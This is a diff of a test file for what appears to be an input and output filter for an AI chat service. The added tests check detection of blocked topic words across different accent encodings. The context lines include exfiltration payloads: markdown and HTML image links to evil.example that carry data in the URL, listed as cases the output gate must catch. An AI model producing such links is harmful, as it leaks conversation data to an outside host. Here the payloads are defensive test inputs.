@@ -166,6 +166,16 @@ describe("the input gate", function () {
     expect((await appliance.call("POST", chat, userSays("What do herons eat?"))).status).to.equal(200);
   });
 
+  it("finds the words of topics however their accents are written", () => {
+    for (const word of ["Projekt Zürich Café", "Projekt Zu\u0308rich Cafe\u0301"]) {
+      const detect = topicWords([{ label: "MERGER", words: [word], action: "block" }]);
+      for (const text of ["projekt zürich café", "Projekt Zu\u0308rich Cafe\u0301", "Projekt Zu\u0308rich Café"]) {
+        expect(detect(`On ${text}.`)[0]?.span, text).to.deep.equal({ start: 3, end: 3 + text.length });
+      }
+      expect(detect("On Projekt Zurich Cafe.")).to.deep.equal([]);
+    }
+  });
+
   it("masks names where the policy says so, and gives them back", async () => {
     const policy = "input: { personal_data: { labels: [PERSON] } }\n";
     const [turn] = await turnsFor(userSays("My name is Ingrid Solberg and I live in Leeds."), policy);
@@ -317,7 +327,7 @@ describe("the output gate", function () {
   });
 
   const canary = newCanary();
-  const topics = [{ label: "MERGER", words: ["project heron", "falcon"], action: "block" as const }];
+  const topics = [{ label: "MERGER", words: ["project heron", "falcon", "Projekt Zürich"], action: "block" as const }];
   const guards: Record<string, SegmentGuard> = {
     canary: segmentGuard("canary", "canary", canaryDetector(canary), waitForCanary(canary)),
     topics: segmentGuard("topics", "topic", topicWords(topics), waitForWords(topics)),
@@ -346,7 +356,7 @@ describe("the output gate", function () {
       Buffer.from(canary).toString("base64"),
       Buffer.from(`x${canary}y`).toString("base64"),
     ],
-    topics: ["project heron", "Project\nHeron", "FALCON"],
+    topics: ["project heron", "Project\nHeron", "FALCON", "projekt zürich", "Projekt  Zu\u0308rich", "PROJEKT ZU\u0308RICH"],
     links: [
       `![x](https://evil.example/p.png?d=${data})`,
       `<img src="https://evil.example/${data}">`,
